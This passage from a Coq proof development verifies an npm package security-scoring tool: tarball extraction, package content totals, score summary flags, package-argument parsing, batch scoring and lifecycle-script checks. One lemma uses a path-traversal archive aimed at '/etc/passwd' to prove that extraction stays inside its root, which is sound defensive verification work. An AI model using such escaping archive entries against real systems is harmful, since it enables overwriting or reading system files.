                {| world := w; extractedPath := None |} in
  if truthy tarballUrl
  then snd run = snd body /\ fst run ⊆ world (fst body)
  else run = (w, Settled (Throw "Tarball URL is required")).
Proof.
  cbv zeta. unfold analyzeTarball, analyzeTarballFrame.
  destruct (truthy tarballUrl); cbn [negb]; [| reflexivity].
  unfold tryFinally.
  destruct (tryBlock _ _ _ _ _ _ _ _ _) as [fr1 [result |]]; cbn [fst snd];
    [| split; reflexivity].
  pose proof (cleanup_settles rmError (tempPathOf this packageName) fr1) as Hsettles.
  pose proof (cleanup_subseteq rmError (tempPathOf this packageName) fr1) as Hsub.
  destruct (cleanup rmError _ fr1) as [fr2 r2]. cbn [fst snd] in *. subst r2.
  cbn [fst snd]. split; [reflexivity | exact Hsub].
Qed.
End TarballExtractionFacts.

Section TarballExtractionWitnesses.
Import JS Path TarballAnalyzer TarballExamples.

(** A file system in which [mkdir] and a write add the path they are
    given.  What is kept is that every path that exists starts with the
    extraction root: after the archive with the climbing entries, extracted
    from nothing, the password file the last entry aims at does not exist. *)
Lemma extractTarball_effect_witness :
  ("/etc/passwd"
     ∉ fst (_extractTarball (fun p w => ({[ p ]} ∪ w, Return tt))
              (fun p w => ({[ p ]} ∪ w, Written)) archiveEscaping
              "/tmp/npm-security-score/pkg/package.tgz" extractRoot ∅)) /\
  snd (_extractTarball (fun p w => ({[ p ]} ∪ w, Return tt))
         (fun p w => ({[ p ]} ∪ w, Written)) archiveEscaping
         "/tmp/npm-security-score/pkg/package.tgz" extractRoot ∅)
  = Settled (Return tt).
Proof.
  destruct (extractTarball_effect
              (fun p w => ({[ p ]} ∪ w, Return tt))
              (fun p w => ({[ p ]} ∪ w, Written)) archiveEscaping
              (fun w => forall q, q ∈ w -> startsWith q extractRoot = true)
              "/tmp/npm-security-score/pkg/package.tgz" extractRoot ∅)
    as (Hkept & _ & _).
  - intros p w Hp Hw q Hq. cbn [fst] in Hq.
    apply elem_of_union in Hq as [Hq | Hq]; [| now apply Hw].
    apply elem_of_singleton in Hq. now subst.
  - intros p w Hp Hw q Hq. cbn [fst] in Hq.
    apply elem_of_union in Hq as [Hq | Hq]; [| now apply Hw].
    apply elem_of_singleton in Hq. now subst.
  - intros q Hq. now apply elem_of_empty in Hq.
  - split; [| vm_compute; reflexivity].
    intros Hin. apply Hkept in Hin. vm_compute in Hin. discriminate.
Defined.
End TarballExtractionWitnesses.

(** ** Tarball analyzer: the contents of a package *)

Section ContentsFacts.
Import JS Path TarballContents.
Context {Json : Type}.
Variable relative : string -> string -> string.

(** Induction on a directory tree, through the lists of entries. *)
Lemma Node_nested_ind (P : Node -> Prop) :
  (forall name size, P (FileNode name size)) ->
  (forall name, P (DirNode name None)) ->
  (forall name entries, Forall P entries -> P (DirNode name (Some entries))) ->
  (forall name, P (OtherNode name)) ->
  forall node, P node.
Proof.
  intros Hfile Hunreadable Hdir Hother.
  fix IH 1. intros [name size | name [entries |] | name].
  - apply Hfile.
  - apply Hdir. induction entries as [| e entries IHentries].
    + apply Forall_nil_2.
    + apply Forall_cons_2; [apply IH | exact IHentries].
  - apply Hunreadable.
  - apply Hother.
Qed.

Lemma fileSizes_app (l1 l2 : list StructureEntry) :
  fileSizes (l1 ++ l2) = fileSizes l1 ++ fileSizes l2.
Proof. apply omap_app. Qed.

Lemma largeFilesOf_app (l1 l2 : list StructureEntry) :
  largeFilesOf (l1 ++ l2) = largeFilesOf l1 ++ largeFilesOf l2.
Proof. apply omap_app. Qed.

Lemma sumZ_app (l1 l2 : list Z) : sumZ (l1 ++ l2) = (sumZ l1 + sumZ l2)%Z.
Proof.
  induction l1 as [| x l1 IH]; cbn [app sumZ fold_right]; [reflexivity |].
  fold (sumZ (l1 ++ l2)). fold (sumZ l1). lia.
Qed.

Lemma preserved_refl (a : Analysis Json) : preserved a a.
Proof. split; [reflexivity | split; [reflexivity | auto]]. Qed.

Lemma preserved_trans (a b c : Analysis Json) :
  preserved a b -> preserved b c -> preserved a c.
Proof.
  intros (H1 & H2 & H3) (H4 & H5 & H6).
  split; [congruence | split; [congruence | auto]].
Qed.

Lemma fold_preserved (step : Analysis Json -> Node -> Analysis Json)
    (entries : list Node) (a : Analysis Json) :
  Forall (fun e => forall a, preserved a (step a e)) entries ->
  preserved a (fold_left step entries a).
Proof.
  revert a. induction entries as [| e entries IH]; intros a Hall; cbn [fold_left].
  - apply preserved_refl.
  - apply Forall_cons in Hall as [He Hall].
    eapply preserved_trans; [apply He | apply IH, Hall].
Qed.

Lemma analyzeEntry_preserved (entry : Node) :
  forall rootPath currentPath (a : Analysis Json),
    preserved a (analyzeEntry Json relative rootPath currentPath entry a).
Proof.
  induction entry as [name [size |] | name | name entries IH | name]
    using Node_nested_ind; intros rootPath currentPath a.
  - cbn [analyzeEntry]. repeat split; cbn; try reflexivity.
    + rewrite fileSizes_app, length_app. cbn. destruct H as (H & _). rewrite H. lia.
    + rewrite fileSizes_app, sumZ_app. cbn. destruct H as (_ & H & _). rewrite H. lia.
    + rewrite largeFilesOf_app. destruct H as (_ & _ & H). rewrite H. cbn.
      destruct (1024 * 1024 <? size)%Z; [reflexivity | now rewrite app_nil_r].
  - apply preserved_refl.
  - cbn [analyzeEntry]. repeat split; cbn; try reflexivity.
    + rewrite fileSizes_app, length_app. cbn. destruct H as (H & _). rewrite H. lia.
    + rewrite fileSizes_app, sumZ_app. cbn. destruct H as (_ & H & _). rewrite H. lia.
    + rewrite largeFilesOf_app. destruct H as (_ & _ & H). rewrite H. cbn.
      now rewrite app_nil_r.
  - cbn [analyzeEntry].
    eapply preserved_trans; [| apply fold_preserved].
    + repeat split; cbn; try reflexivity.
      * rewrite fileSizes_app, length_app. cbn. destruct H as (H & _). rewrite H. lia.
      * rewrite fileSizes_app, sumZ_app. cbn. destruct H as (_ & H & _). rewrite H. lia.
      * rewrite largeFilesOf_app. destruct H as (_ & _ & H). rewrite H. cbn.
        now rewrite app_nil_r.
    + eapply Forall_impl; [exact IH |]. intros e He a'. apply He.
  - apply preserved_refl.
Qed.

Lemma analyzeDirectory_preserved (rootPath currentPath : string)
    (entries : option (list Node)) (a : Analysis Json) :
  preserved a (_analyzeDirectory Json relative rootPath currentPath entries a).
Proof.
  destruct entries as [entries |]; [| apply preserved_refl].
  cbn [_analyzeDirectory]. apply fold_preserved.
  apply Forall_forall. intros e _ a'. apply analyzeEntry_preserved.
Qed.

Lemma insertSorted_descending (x : LargeFile) (l : list LargeFile) :
  descending l -> descending (insertSorted bySizeDescending x l).
Proof.
  induction l as [| y t IH]; cbn [insertSorted descending].
  - intros _. split; [apply Forall_nil_2 | exact I].
  - intros [Hy Ht]. unfold bySizeDescending at 1.
    destruct (Z.ltb_spec 0 (largeSize y - largeSize x)) as [Hlt | Hge];
      cbn [descending].
    + split; [| apply IH, Ht].
      rewrite (insertSorted_Permutation bySizeDescending x t).
      apply Forall_cons_2; [lia | exact Hy].
    + split; [| split; assumption].
      apply Forall_cons_2; [lia |].
      eapply Forall_impl; [exact Hy |]. cbn. intros z Hz. lia.
Qed.

Lemma sortBy_descending (l : list LargeFile) :
  descending (sortBy bySizeDescending l).
Proof.
  induction l as [| x l IH]; cbn [sortBy fold_right]; [exact I |].
  apply insertSorted_descending, IH.
Qed.

Lemma descending_split (l : list LargeFile) (n : nat) :
  descending l ->
  descending (take n l) /\
  Forall (fun r => Forall (fun f => (largeSize r <= largeSize f)%Z) (take n l))
         (drop n l).
Proof.
  revert n. induction l as [| x l IH]; intros n Hl.
  - rewrite take_nil, drop_nil. split; [exact I | apply Forall_nil_2].
  - destruct n as [| n]; cbn [take drop].
    + split; [exact I |]. apply Forall_forall. intros r _. apply Forall_nil_2.
    + destruct Hl as [Hx Hl]. destruct (IH n Hl) as [H1 H2]. cbn [descending]. split.
      * split; [| exact H1]. rewrite <- (take_drop n l) in Hx.
        now apply Forall_app in Hx as [Hx _].
      * rewrite <- (take_drop n l) in Hx. apply Forall_app in Hx as [_ Hx].
        apply Forall_forall. intros r Hr. apply Forall_cons_2.
        -- rewrite Forall_forall in Hx. now apply Hx.
        -- rewrite Forall_forall in H2. now apply H2.
Qed.

Lemma largeFilesOf_listed (structure : list StructureEntry) (f : LargeFile) :
  In f (largeFilesOf structure) ->
  (1024 * 1024 < largeSize f)%Z /\
  In (FileEntry (largePath f) (largeSize f)) structure.
Proof.
  intros Hf. apply list_elem_of_In, list_elem_of_omap in Hf as (e & He & Hf).
  apply list_elem_of_In in He.
  destruct e as [path | path size]; [discriminate |].
  destruct (Z.ltb_spec (1024 * 1024) size) as [Hlt | _]; [| discriminate].
  injection Hf as <-. cbn. split; [exact Hlt | exact He].
Qed.

(** X21.  The totals of [_analyzeContents] agree with the structure it
    lists: [totalFiles] is the number of file entries of [fileStructure] and
    [totalSize] the sum of their sizes, entries that are neither file nor
    directory, files that cannot be examined and directories that cannot be
    read adding nothing; [hasPackageJson] says whether a manifest was
    parsed; and when the package directory cannot be read everything is
    empty. *)
Theorem analyzeContents_totals (extractPath : string) (manifest : option Json)
    (packageDir : option (list Node)) :
  let analysis := _analyzeContents Json relative extractPath manifest packageDir in
  totalFiles analysis = length (fileSizes (fileStructure analysis)) /\
  totalSize analysis = sumZ (fileSizes (fileStructure analysis)) /\
  packageJson analysis = manifest /\
  (hasPackageJson analysis = true <-> manifest <> None) /\
  (packageDir = None ->
   fileStructure analysis = [] /\ totalFiles analysis = 0%nat /\
   totalSize analysis = 0%Z /\ largestFiles analysis = []).
Proof.
  cbv zeta. unfold _analyzeContents. cbv zeta.
  cbn [totalFiles totalSize fileStructure packageJson hasPackageJson largestFiles].
  set (start := {| packageJson := manifest; fileStructure := [];
                   totalFiles := 0; totalSize := 0;
                   hasPackageJson := match manifest with Some _ => true | None => false end;
                   largestFiles := [] |}).
  destruct (analyzeDirectory_preserved (join [extractPath; "package"])
              (join [extractPath; "package"]) packageDir start) as (Hj & Hh & Hc).
  destruct Hc as (H1 & H2 & _); [repeat split |].
  split; [exact H1 |]. split; [exact H2 |]. split; [exact Hj |]. split.
  - rewrite Hh. cbn. destruct manifest; split; congruence.
  - intros ->. cbn. repeat split.
Qed.

(** X22.  The [largestFiles] of [_analyzeContents] are the ten largest of
    the listed files above 1MB: there are ten of them or, if fewer files are
    that large, all of those; each is a file entry of [fileStructure] larger
    than 1MB; they come largest first; and every listed file above 1MB that
    is left out is no larger than any that is kept. *)
Theorem analyzeContents_largestFiles (extractPath : string) (manifest : option Json)
    (packageDir : option (list Node)) :
  let analysis := _analyzeContents Json relative extractPath manifest packageDir in
  length (largestFiles analysis)
  = Nat.min 10 (length (largeFilesOf (fileStructure analysis))) /\
  Forall (fun f => (1024 * 1024 < largeSize f)%Z /\
                   In (FileEntry (largePath f) (largeSize f))
                      (fileStructure analysis))
         (largestFiles analysis) /\
  descending (largestFiles analysis) /\
  exists rest,
    Permutation (largestFiles analysis ++ rest)
                (largeFilesOf (fileStructure analysis)) /\
    Forall (fun r => Forall (fun f => (largeSize r <= largeSize f)%Z)
                            (largestFiles analysis)) rest.
Proof.
  cbv zeta. unfold _analyzeContents. cbv zeta.
  cbn [totalFiles totalSize fileStructure packageJson hasPackageJson largestFiles].
  set (start := {| packageJson := manifest; fileStructure := [];
                   totalFiles := 0; totalSize := 0;
                   hasPackageJson := match manifest with Some _ => true | None => false end;
                   largestFiles := [] |}).
  destruct (analyzeDirectory_preserved (join [extractPath; "package"])
              (join [extractPath; "package"]) packageDir start) as (_ & _ & Hc).
  destruct Hc as (_ & _ & Hlarge); [repeat split |].
  set (walked := _analyzeDirectory Json relative (join [extractPath; "package"])
                   (join [extractPath; "package"]) packageDir start) in *.
  rewrite Hlarge. rewrite slice_from_start by lia.
  change (Z.to_nat 10) with 10%nat.
  set (large := largeFilesOf (fileStructure walked)).
  pose proof (sortBy_Permutation bySizeDescending large) as Hperm.
  destruct (descending_split (sortBy bySizeDescending large) 10
              (sortBy_descending large)) as [Hdesc Hrest].
  repeat apply conj.
  - rewrite length_take, sortBy_length. lia.
  - apply Forall_forall. intros f Hf. apply largeFilesOf_listed. fold large.
    apply (Permutation_in _ Hperm), list_elem_of_In.
    now apply (subseteq_take 10).
  - exact Hdesc.
  - exists (drop 10 (sortBy bySizeDescending large)). split.
    + rewrite take_drop. exact Hperm.
    + exact Hrest.
Qed.
End ContentsFacts.

(** ** Command line: summary and batch scoring *)

Section SummaryFacts.
Import JS Model ScoreBands ScoreCalculator CalculatorAccounting OutputFormatter.
Local Open Scope Q_scope.
Context {D : Type}.

Lemma numberOrZero_eq (x : Q) : numberOrZero x == x.
Proof.
  unfold numberOrZero. destruct (Qeq_bool x 0) eqn:E; [| reflexivity].
  apply Qeq_bool_iff in E. now rewrite E.
Qed.

Lemma geb_le (a b : Q) : geb a b = true <-> b <= a.
Proof. apply Qle_bool_iff. Qed.

Lemma ltb_lt (a b : Q) : OutputFormatter.ltb a b = true <-> a < b.
Proof.
  unfold OutputFormatter.ltb. rewrite negb_true_iff. split.
  - apply Qle_bool_false.
  - intros H. destruct (Qle_bool b a) eqn:E; [| reflexivity].
    apply Qle_bool_iff in E. lra.
Qed.

Lemma mathMax_zero (x : Q) : 0 <= mathMax 0 x /\ (mathMax 0 x == 0 <-> x <= 0) /\
                             (0 <= x -> mathMax 0 x == x).
Proof.
  unfold mathMax. destruct (Qle_bool 0 x) eqn:E.
  - apply Qle_bool_iff in E. repeat split; intros; lra.
  - apply Qle_bool_false in E. repeat split; intros; lra.
Qed.

Lemma fold_sum (f : RuleEntry D -> Q) (entries : list (RuleEntry D)) (acc : Q) :
  fold_left (fun sum rule => sum + f rule) entries acc
  == acc + sumQ (map f entries).
Proof.
  revert acc. induction entries as [| e entries IH]; intros acc;
    cbn [fold_left map sumQ fold_right].
  - lra.
  - rewrite IH. fold (sumQ (map f entries)). lra.
Qed.

Lemma positive_sum (entries : list (RuleEntry D)) :
  0 <= sumQ (map (fun rule => numberOrZero (mathMax 0 (entryDeduction rule))) entries) /\
  (sumQ (map (fun rule => numberOrZero (mathMax 0 (entryDeduction rule))) entries) == 0
   <-> filter (fun rule => OutputFormatter.ltb 0 (entryDeduction rule) = true) entries = []).
Proof.
  induction entries as [| e entries [IH1 IH2]]; cbn [map sumQ fold_right].
  - split; [lra | split; reflexivity].
  - fold (sumQ (map (fun rule => numberOrZero (mathMax 0 (entryDeduction rule))) entries)).
    rewrite filter_cons.
    pose proof (numberOrZero_eq (mathMax 0 (entryDeduction e))) as Hn.
    destruct (mathMax_zero (entryDeduction e)) as (H0 & Hz & _).
    split; [lra |].
    destruct (decide (OutputFormatter.ltb 0 (entryDeduction e) = true)) as [Hpos | Hneg].
    + apply ltb_lt in Hpos. split; [| discriminate]. intros Hsum. exfalso.
      assert (Hm : mathMax 0 (entryDeduction e) == 0) by lra.
      apply Hz in Hm. lra.
    + assert (Hle : entryDeduction e <= 0).
      { destruct (Qlt_le_dec 0 (entryDeduction e)) as [Hlt | Hle]; [| exact Hle].
        apply ltb_lt in Hlt. contradiction. }
      apply Hz in Hle. rewrite <- IH2. split; intros; lra.
Qed.

Lemma sum_deductions (entries : list (RuleEntry D)) :
  sumQ (map (fun rule => numberOrZero (entryDeduction rule)) entries)
  == sumQ (map entryDeduction entries).
Proof.
  induction entries as [| e entries IH]; cbn [map sumQ fold_right]; [reflexivity |].
  fold (sumQ (map (fun rule => numberOrZero (entryDeduction rule)) entries)).
  fold (sumQ (map entryDeduction entries)).
  rewrite IH, numberOrZero_eq. reflexivity.
Qed.

Lemma sum_positive_deductions (entries : list (RuleEntry D)) :
  Forall (fun rule => 0 <= entryDeduction rule) entries ->
  sumQ (map (fun rule => numberOrZero (mathMax 0 (entryDeduction rule))) entries)
  == sumQ (map (fun rule => numberOrZero (entryDeduction rule)) entries).
Proof.
  intros Hall.
  induction Hall as [| e entries He Hall IH]; cbn [map sumQ fold_right];
    [reflexivity |].
  fold (sumQ (map (fun rule => numberOrZero (mathMax 0 (entryDeduction rule))) entries)).
  fold (sumQ (map (fun rule => numberOrZero (entryDeduction rule)) entries)).
  rewrite IH, !numberOrZero_eq.
  destruct (mathMax_zero (entryDeduction e)) as (_ & _ & Hm). rewrite (Hm He).
  reflexivity.
Qed.

(** X23.  The totals of [_generateSummary]: the total reported as
    [totalBonuses] is the sum of the positive deductions and does not look at
    the bonus of any entry, so it is never negative, is zero exactly when no
    issue is found, and equals [totalDeductions] whenever no deduction is
    negative;
    [totalDeductions] is the sum of the deductions; and the issues found are
    no more than the rules evaluated. *)
Theorem generateSummary_totals (result : ScoreResult D) :
  let summary := _generateSummary result in
  totalDeductions summary == totalDeduction (ruleResults result) /\
  0 <= totalBonuses summary /\
  (totalBonuses summary == 0 <-> issuesFound summary = 0%nat) /\
  (Forall (fun rule => 0 <= entryDeduction rule) (ruleResults result) ->
   totalBonuses summary == totalDeductions summary) /\
  (issuesFound summary <= rulesEvaluated summary)%nat /\
  (forall result' : ScoreResult D,
     map entryDeduction (ruleResults result') = map entryDeduction (ruleResults result) ->
     totalBonuses (_generateSummary result') = totalBonuses summary).
Proof.
  cbv zeta. unfold _generateSummary.
  cbn [totalDeductions totalBonuses issuesFound rulesEvaluated].
  destruct (positive_sum (ruleResults result)) as [Hpos Hzero].
  split; [| split; [| split; [| split; [| split]]]].
  - rewrite fold_sum, Qplus_0_l. apply sum_deductions.
  - rewrite fold_sum. lra.
  - rewrite fold_sum, Qplus_0_l, Hzero. split.
    + intros ->. reflexivity.
    + apply length_zero_iff_nil.
  - intros Hall. rewrite !fold_sum, !Qplus_0_l. now apply sum_positive_deductions.
  - apply length_filter.
  - intros result' Hsame.
    assert (Hfold : forall (l1 l2 : list (RuleEntry D)) acc,
               map entryDeduction l1 = map entryDeduction l2 ->
               fold_left (fun sum rule =>
                            sum + numberOrZero (mathMax 0 (entryDeduction rule))) l1 acc
               = fold_left (fun sum rule =>
                              sum + numberOrZero (mathMax 0 (entryDeduction rule))) l2 acc).
    { induction l1 as [| e1 l1 IH]; intros [| e2 l2] acc; cbn [map fold_left];
        try discriminate; [reflexivity |].
      intros [= He Hl]. rewrite He. now apply IH. }
    now apply Hfold.
Qed.

(** On a rational score the comparisons are those of [_generateSummary] and
    of [_getScoreInterpretation] above. *)
Lemma summaryFlags_finite (result : ScoreResult D) :
  ScoreComparisons.summaryFlags (ScoreComparisons.Finite (score result)) =
    [isSafe (_generateSummary result); requiresReview (_generateSummary result);
     isHighRisk (_generateSummary result); shouldBlock (_generateSummary result)] /\
  ScoreComparisons._getScoreInterpretation (ScoreComparisons.Finite (score result)) =
    _getScoreInterpretation (score result).
Proof. split; reflexivity. Qed.

(** X24.  The four flags of [_generateSummary] partition the scores that are
    numbers: for every score other than NaN, the infinite ones included,
    exactly one of [isSafe], [requiresReview], [isHighRisk] and [shouldBlock]
    is set, and it is the one that goes with the text of
    [_getScoreInterpretation] for the same score.  For NaN no flag is set,
    not even [shouldBlock], while the interpretation is the text that tells
    to block. *)
Theorem generateSummary_flags (score : ScoreComparisons.ScoreValue) :
  match score with
  | ScoreComparisons.NotANumber =>
      ScoreComparisons.summaryFlags score = [false; false; false; false] /\
      ScoreComparisons._getScoreInterpretation score =
        "Package has critical security issues. Block in CI/CD and avoid use."
  | _ =>
      exists i,
        (i < 4)%nat /\
        ScoreComparisons.summaryFlags score = <[i := true]> [false; false; false; false] /\
        ScoreComparisons.interpretations !! i =
          Some (ScoreComparisons._getScoreInterpretation score)
  end.
Proof.
  destruct score as [q | | |].
  - unfold ScoreComparisons.summaryFlags, ScoreComparisons._getScoreInterpretation,
      ScoreComparisons.geb, ScoreComparisons.ltb.
    destruct (Qle_bool 90 q) eqn:E90, (Qle_bool 70 q) eqn:E70,
             (Qle_bool 50 q) eqn:E50;
      try apply Qle_bool_iff in E90; try apply Qle_bool_iff in E70;
      try apply Qle_bool_iff in E50;
      try apply Qle_bool_false in E90; try apply Qle_bool_false in E70;
      try apply Qle_bool_false in E50;
      try (exfalso; lra);
      [exists 0%nat | exists 1%nat | exists 2%nat | exists 3%nat];
      (split; [lia | split; reflexivity]).
  - exists 0%nat. split; [lia | split; reflexivity].
  - exists 3%nat. split; [lia | split; reflexivity].
  - split; reflexivity.
Qed.
End SummaryFacts.

Section ScoringServiceFacts.
Import JS Model ScoringService.
Variable R : Type.
Variable scorePackage : string -> option string -> R + Thrown.

Lemma splitOn_nonempty (sep : ascii) (s : list ascii) : splitOn sep s <> [].
Proof.
  destruct s as [| c t]; cbn [splitOn]; [discriminate |].
  destruct (Ascii.eqb c sep); [discriminate |].
  destruct (splitOn sep t); discriminate.
Qed.

Lemma joinOn_step (sep : ascii) (x y : list ascii) (t : list (list ascii)) :
  joinOn sep (x :: y :: t) = x ++ sep :: joinOn sep (y :: t).
Proof. reflexivity. Qed.

Lemma splitOn_join (sep : ascii) (s : list ascii) : joinOn sep (splitOn sep s) = s.
Proof.
  induction s as [| c t IH]; cbn [splitOn]; [reflexivity |].
  pose proof (splitOn_nonempty sep t) as Hne.
  destruct (splitOn sep t) as [| h r] eqn:E; [contradiction |].
  destruct (Ascii.eqb_spec c sep) as [-> | Hc].
  - rewrite joinOn_step, IH. reflexivity.
  - destruct r as [| h' r'].
    + cbn [joinOn] in *. now rewrite IH.
    + rewrite joinOn_step in *. rewrite <- IH. reflexivity.
Qed.

Lemma splitOn_parts (sep : ascii) (s : list ascii) :
  Forall (fun part => existsb (Ascii.eqb sep) part = false) (splitOn sep s).
Proof.
  induction s as [| c t IH]; cbn [splitOn].
  - apply Forall_cons_2; [reflexivity | apply Forall_nil_2].
  - destruct (Ascii.eqb_spec c sep) as [-> | Hc].
    + apply Forall_cons_2; [reflexivity | exact IH].
    + destruct (splitOn sep t) as [| h r].
      * apply Forall_cons_2; [| apply Forall_nil_2]. cbn.
        destruct (Ascii.eqb_spec sep c); [congruence | reflexivity].
      * apply Forall_cons in IH as [Hh Hr]. apply Forall_cons_2; [| exact Hr].
        cbn. destruct (Ascii.eqb_spec sep c); [congruence | exact Hh].
Qed.

Lemma splitOn_single (sep : ascii) (s part : list ascii) :
  splitOn sep s = [part] -> existsb (Ascii.eqb sep) s = false.
Proof.
  intros E. pose proof (splitOn_join sep s) as Hj. pose proof (splitOn_parts sep s) as Hp.
  rewrite E in Hj, Hp. cbn in Hj. subst part. now apply Forall_cons in Hp as [Hp _].
Qed.

Lemma includesAt_str (l : list ascii) :
  includesAt (str l) = existsb (Ascii.eqb at_sign) l.
Proof. unfold includesAt. now rewrite chars_str. Qed.

(** X25.  How [scorePackages] reads a package argument.  A text without an
    at-sign, or with one in front (a scoped name), is taken whole as the
    name, with no version, so a version after a scoped name is never split
    off.  Otherwise the name is the text before the first at-sign and is not
    empty, the version is the text between the first and the second at-sign
    or the end, neither contains an at-sign, and whatever follows a second
    at-sign is dropped. *)
Theorem nameAndVersion_shape (pkg : string) :
  if includesAt pkg && negb (startsWithAt pkg)
  then exists name version tail,
         nameAndVersion pkg = (name, Some version) /\
         name <> EmptyString /\
         includesAt name = false /\ includesAt version = false /\
         chars pkg = chars name ++ at_sign :: chars version ++ tail /\
         (tail = [] \/ exists rest, tail = at_sign :: rest)
  else nameAndVersion pkg = (pkg, None).
Proof.
  unfold nameAndVersion.
  destruct (includesAt pkg && negb (startsWithAt pkg)) eqn:Hcond; [| reflexivity].
  apply andb_prop in Hcond as [Hinc Hstart]. apply negb_true_iff in Hstart.
  unfold includesAt in Hinc. unfold startsWithAt in Hstart.
  pose proof (splitOn_join at_sign (chars pkg)) as Hjoin.
  pose proof (splitOn_parts at_sign (chars pkg)) as Hparts.
  pose proof (splitOn_nonempty at_sign (chars pkg)) as Hne.
  destruct (splitOn at_sign (chars pkg)) as [| name [| version rest]] eqn:E;
    [contradiction | |].
  - apply splitOn_single in E. congruence.
  - apply Forall_cons in Hparts as [Hname Hparts].
    apply Forall_cons in Hparts as [Hversion _].
    exists (str name), (str version),
           (match rest with [] => [] | _ => at_sign :: joinOn at_sign rest end).
    rewrite !includesAt_str, !chars_str.
    split; [reflexivity |]. split; [| split; [exact Hname | split; [exact Hversion |]]].
    + destruct name as [| c name]; [| discriminate].
      exfalso. rewrite joinOn_step in Hjoin. cbn [app] in Hjoin.
      rewrite <- Hjoin in Hstart. cbn in Hstart. discriminate.
    + split.
      * rewrite <- Hjoin, joinOn_step. destruct rest as [| r rest].
        -- cbn [joinOn]. now rewrite app_nil_r.
        -- rewrite joinOn_step. reflexivity.
      * destruct rest; [now left | right; eexists; reflexivity].
Qed.

(** Once a catch block has thrown, the call is over. *)
Lemma scorePackages_rejected (packages : list string) :
  fold_left
    (fun results pkg =>
       match results with
       | Some results =>
           match scoreOne R scorePackage pkg with
           | Some entry => Some (results ++ [entry])
           | None => None
           end
       | None => None
       end)
    packages None = None.
Proof. induction packages as [| pkg packages IH]; [reflexivity | exact IH]. Qed.

(** When no scoring rejects with [undefined] or [null], the loop appends
    the entry of each package, in order. *)
Lemma scorePackages_all_entries (packages : list string) :
  Forall (fun pkg => scoreOne R scorePackage pkg <> None) packages ->
  exists entries,
    Forall2 (fun pkg entry => scoreOne R scorePackage pkg = Some entry)
      packages entries /\
    forall results,
      fold_left
        (fun results pkg =>
           match results with
           | Some results =>
               match scoreOne R scorePackage pkg with
               | Some entry => Some (results ++ [entry])
               | None => None
               end
           | None => None
           end)
        packages (Some results) = Some (results ++ entries).
Proof.
  induction 1 as [| pkg packages Hpkg _ (entries & Hentries & Hfold)].
  - exists []. split; [constructor |]. intros results. cbn. now rewrite app_nil_r.
  - destruct (scoreOne R scorePackage pkg) as [entry |] eqn:E; [| contradiction].
    exists (entry :: entries). split; [now constructor |].
    intros results. cbn [fold_left]. rewrite E, Hfold, <- app_assoc. reflexivity.
Qed.

(** The first scoring that rejects with [undefined] or [null] ends the
    call. *)
Lemma scorePackages_some_rejected (packages : list string)
    (results : list (PackageResult R)) :
  Exists (fun pkg => scoreOne R scorePackage pkg = None) packages ->
  fold_left
    (fun results pkg =>
       match results with
       | Some results =>
           match scoreOne R scorePackage pkg with
           | Some entry => Some (results ++ [entry])
           | None => None
           end
       | None => None
       end)
    packages (Some results) = None.
Proof.
  intros Hex. revert results.
  induction Hex as [pkg packages Hpkg | pkg packages _ IH]; intros results;
    cbn [fold_left].
  - rewrite Hpkg. apply scorePackages_rejected.
  - destruct (scoreOne R scorePackage pkg); [apply IH | apply scorePackages_rejected].
Qed.

(** X26.  [scorePackages] gives one result for each package argument, in
    order, as long as no scoring rejects with [undefined] or [null]: a
    package whose scoring throws an Error gets a failure entry with its
    message and the ones after it are still scored.  A failure entry never
    has an empty version (a missing or empty one reads latest), and for a
    scoped name it carries the whole argument as the package and latest as
    the version.  When a scoring rejects with [undefined] or [null], the
    catch block throws in its turn and the whole call rejects, with no
    result for any package. *)
Theorem scorePackages_one_result_each (packages : list string) :
  (Forall (fun pkg => scoreOne R scorePackage pkg <> None) packages ->
   exists results,
     scorePackages R scorePackage packages = Some results /\
     length results = length packages /\
     forall i pkg, packages !! i = Some pkg ->
                   results !! i = scoreOne R scorePackage pkg) /\
  (Exists (fun pkg => scoreOne R scorePackage pkg = None) packages ->
   scorePackages R scorePackage packages = None) /\
  (forall pkg,
     match scoreOne R scorePackage pkg with
     | Some (Scored result) =>
         scorePackage (fst (nameAndVersion pkg)) (snd (nameAndVersion pkg))
         = inl result
     | Some (Failed package version message) =>
         scorePackage (fst (nameAndVersion pkg)) (snd (nameAndVersion pkg))
         = inr (ErrorObject message) /\
         package = fst (nameAndVersion pkg) /\ version <> EmptyString /\
         (startsWithAt pkg = true -> package = pkg /\ version = "latest")
     | None =>
         scorePackage (fst (nameAndVersion pkg)) (snd (nameAndVersion pkg))
         = inr Nullish
     end).
Proof.
  unfold scorePackages. split; [| split].
  - intros Hall.
    destruct (scorePackages_all_entries packages Hall) as (entries & Hentries & Hfold).
    exists entries. split; [apply (Hfold []) |]. split.
    + symmetry. exact (Forall2_length _ _ _ Hentries).
    + intros i pkg Hi.
      destruct (Forall2_lookup_l _ _ _ _ _ Hentries Hi) as (entry & Hentry & ->).
      exact Hentry.
  - apply scorePackages_some_rejected.
  - intros pkg. unfold scoreOne.
    destruct (nameAndVersion pkg) as [name version] eqn:E. cbn [fst snd].
    destruct (scorePackage name version) as [result | [message |]];
      [reflexivity | | reflexivity].
    split; [reflexivity |]. split; [reflexivity |]. split.
    + destruct version as [[| c v] |]; cbn; discriminate.
    + intros Hstart. unfold nameAndVersion in E.
      rewrite Hstart, andb_false_r in E. injection E as <- <-. split; reflexivity.
Qed.
End ScoringServiceFacts.

(** ** The two script checks side by side *)

Section SuspiciousScriptFacts.
Import JS Regex Model.

Lemma allMatches_hit (ps : list Pattern) (p : Pattern) (script : string) (i : nat) :
  In p ps -> patternTest p script = true ->
  (1 <= length (LifecycleScriptRiskRule.allMatches ps script i))%nat.
Proof.
  revert i. induction ps as [| q ps IH]; intros i Hin Hp; [contradiction |].
  cbn [LifecycleScriptRiskRule.allMatches].
  destruct Hin as [-> | Hin].
  - rewrite Hp. cbn [length]. lia.
  - destruct (patternTest q script); cbn [length]; [lia | now apply IH].
Qed.

Lemma firstMatch_hit (ps : list Pattern) (p : Pattern) (script : string) (i : nat) :
  In p ps -> patternTest p script = true ->
  LifecycleScriptRiskRule.firstMatch ps script i <> None.
Proof.
  intros Hin Hp.
  pose proof (firstMatch_existsb ps script i) as H.
  assert (He : existsb (fun q => patternTest q script) ps = true)
    by (apply existsb_exists; eauto).
  rewrite He in H. destruct (LifecycleScriptRiskRule.firstMatch ps script i);
    [discriminate | discriminate].
Qed.

Lemma analyzeScript_risk_parts (script : string) :
  ((match LifecycleScriptRiskRule.firstMatch
             LifecycleScriptRiskRule.highRiskPatterns script 0 with
    | Some _ => 3 | None => 0 end)
   + length (LifecycleScriptRiskRule.allMatches
